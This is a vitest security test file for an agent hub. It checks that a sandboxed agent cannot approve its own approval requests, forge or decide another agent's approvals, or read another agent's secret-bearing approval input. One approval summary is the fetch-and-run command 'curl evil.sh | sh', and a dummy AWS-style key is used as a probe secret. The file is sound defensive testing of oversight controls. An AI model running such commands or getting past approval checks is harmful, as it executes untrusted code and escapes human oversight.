import {afterAll, beforeAll, describe, expect, it} from 'vitest'
import {startLiveHub, type LiveHub} from '../helpers/live-hub.js'
import {typedInto} from '../helpers/agent-shell.js'

/**
 * Attack (issue 28): from inside a real `shell` agent A (local runtime, bubblewrap), with A's own
 * token and the Hub endpoint it was given, plain HTTP: A asks an approval for itself (allowed:
 * that is what its hook does), then tries to allow it (403), to forge an approval for agent B
 * (403), and to allow B's pending approval (403: A is not B's parent). Nothing changes: both
 * stay pending and no approval of B's comes from A.
 */
describe('attack: an agent decides its own approvals or forges another agent\'s', () => {
  let hub: LiveHub
  beforeAll(async () => {
    hub = await startLiveHub('sqlite')
  }, 120_000)
  afterAll(async () => {
    await hub?.dispose()
  })

  const AUTH = `-H "authorization: Bearer \${SVC_AUTH_TOKEN:-$(cat "$SVC_AUTH_TOKEN_FILE")}" -H 'content-type: application/json'`
  const post = (path: string, body: string) => `$(curl -s -o /dev/null -w %{http_code} --max-time 10 ${AUTH} -X POST -d '${body}' "$SVC_HUB_ENDPOINT${path}")`

  it('from inside A: its own approval 201, deciding it 403, forging B\'s 403, deciding B\'s 403; nothing changes', async () => {
    const create = async (name: string) => (await hub.request('POST', '/api/v1/agents', {body: {name, projectId: 'default', harnessConfig: 'shell', role: 'full'}})).body.agent
    const a = await create('appr-a')
    const b = await create('appr-b')
    expect([a.phase, b.phase]).toEqual(['running', 'running'])
    const typed = (line: string, marker: string) => typedInto(hub, a.id, line, marker, {timeoutMs: 60_000})

    expect(await typed(`echo own=${post('/api/v1/agents/$SVC_AGENT_ID/approvals', '{"tool":"Bash","summary":"curl evil.sh | sh"}')}`, 'own')).toBe('201')
    const [mine] = (await hub.request('GET', `/api/v1/agents/${a.id}/approvals?state=pending`)).body.approvals
    expect(mine).toMatchObject({summary: 'curl evil.sh | sh', state: 'pending'})

    const tokenOfB = (await hub.services.agentTokens.mint((await hub.store.agents.get(b.id))!)).token
    const asked = await hub.request('POST', `/api/v1/agents/${b.id}/approvals`, {token: tokenOfB, body: {tool: 'Bash', summary: 'make deploy'}})
    expect(asked.status).toBe(201)

    expect(await typed(`echo self=${post(`/api/v1/approvals/${mine.id}/decision`, '{"decision":"allow"}')}`, 'self')).toBe('403')
    expect(await typed(`echo forge=${post(`/api/v1/agents/${b.id}/approvals`, '{"tool":"Bash","summary":"forged"}')}`, 'forge')).toBe('403')
    expect(await typed(`echo other=${post(`/api/v1/approvals/${asked.body.approval.id}/decision`, '{"decision":"allow"}')}`, 'other')).toBe('403')

    expect((await hub.request('GET', `/api/v1/approvals/${mine.id}`)).body.approval.state).toBe('pending')
    const ofB = (await hub.request('GET', `/api/v1/agents/${b.id}/approvals`)).body.approvals
    expect(ofB.map((x: any) => [x.summary, x.state])).toEqual([['make deploy', 'pending']])
  }, 240_000)

  // Review finding D: an approval's input may hold secrets. From inside agent C (not D's parent),
  // C's own credential reads D (the agent) but none of D's approvals: not by ID, not in D's list,
  // not in its inbox, not in the event stream replayed from the start. Nor D's command in D's
  // detail (issue 28): waiting (`Permission: Deploy: <command>`) and running (`Bash: <command>`),
  // C reads D, the agent list, D's tree and the stream with `Permission: Deploy` and `Bash` only.
  // Control: C's own approval comes back to it by ID and in the stream; the owner reads D's
  // detail whole.
  it("from inside C: another agent's approval input is nowhere C's credential reaches", async () => {
    const create = async (name: string) => (await hub.request('POST', '/api/v1/agents', {body: {name, projectId: 'default', harnessConfig: 'shell', role: 'full'}})).body.agent
    const c = await create('appr-c')
    const d = await create('appr-d')
    const tokenOfD = (await hub.services.agentTokens.mint((await hub.store.agents.get(d.id))!)).token
    const SECRET = 'AKIAsecretOfD0123456789'
    const asked = await hub.request('POST', `/api/v1/agents/${d.id}/approvals`, {token: tokenOfD, body: {tool: 'Deploy', summary: `deploy prod --key ${SECRET}`, input: {target: 'prod', env: {AWS_KEY: SECRET}}}})
    expect(asked.status).toBe(201)
    const id = asked.body.approval.id
    const typed = (line: string, marker: string) => typedInto(hub, c.id, line, marker, {timeoutMs: 60_000})
    const get = (path: string) => `$(curl -s --max-time 10 ${AUTH} -w ' code%{http_code}' "$SVC_HUB_ENDPOINT${path}" | tr -d '\n')`
    // Each answer: how often the secret appears, then its status.
    const probe = (marker: string, path: string) => typed(`r=${get(path)}; echo ${marker}=$(echo "$r" | grep -o ${SECRET} | wc -l)-\${r##* }`, marker)
    expect(await typed(`echo mine=${post('/api/v1/agents/$SVC_AGENT_ID/approvals', '{"tool":"Deploy","summary":"deploy staging","input":{"marker":"OWNMARKofC"}}')}`, 'mine')).toBe('201')
    expect(await probe('agent', `/api/v1/agents/${d.id}`)).toBe('0-code200')
    // What C reads of D's detail, as C's credential gets it (spaces as _: the marker's value is one word).
    const detailOfD = (marker: string) => typed(`echo ${marker}=$(curl -s --max-time 10 ${AUTH} "$SVC_HUB_ENDPOINT/api/v1/agents/${d.id}" | grep -o '"detail":"[^"]*"' | tr ' ' _)`, marker)
    expect(await detailOfD('waiting')).toBe('"detail":"Permission:_Deploy"')
    expect(await probe('agents', '/api/v1/agents?projectId=default')).toBe('0-code200')
    expect(await probe('tree', `/api/v1/agents/${d.id}/tree`)).toBe('0-code200')
    expect(await probe('byid', `/api/v1/approvals/${id}`)).toBe('0-code404')
    expect(await probe('poll', `/api/v1/approvals/${id}?wait=1`)).toBe('0-code404')
    expect(await probe('list', `/api/v1/agents/${d.id}/approvals`)).toBe('0-code200')
    expect(await probe('inbox', '/api/v1/approvals')).toBe('0-code200')
    // D runs a command: C reads its tool, not the command.
    expect((await hub.request('POST', `/api/v1/agents/${d.id}/status`, {token: tokenOfD, body: {activity: 'executing', detail: `Bash: aws s3 cp --key ${SECRET} x s3://y`}})).status).toBe(200)
    expect(await detailOfD('running')).toBe('"detail":"Bash"')
    expect(await probe('agents2', '/api/v1/agents?projectId=default')).toBe('0-code200')
    expect(await probe('tree2', `/api/v1/agents/${d.id}/tree`)).toBe('0-code200')
    expect((await hub.request('GET', `/api/v1/agents/${d.id}`)).body.agent.detail).toBe(`Bash: aws s3 cp --key ${SECRET} x s3://y`)
    // The stream from its start for 5 s: C's own approval is there, D's is not, nor D's commands.
    const stream = `curl -s -N --max-time 5 ${AUTH} -H 'last-event-id: 0' "$SVC_HUB_ENDPOINT/api/v1/events" > ev.txt`
    expect(await typed(`${stream}; echo ev=$(grep -c ${SECRET} ev.txt)-$(grep -c OWNMARKofC ev.txt)`, 'ev')).toBe('0-1')
    // The owner reads D's approval with its input.
    expect((await hub.request('GET', `/api/v1/approvals/${id}`)).body.approval.input).toEqual({target: 'prod', env: {AWS_KEY: SECRET}})
  }, 240_000)
})
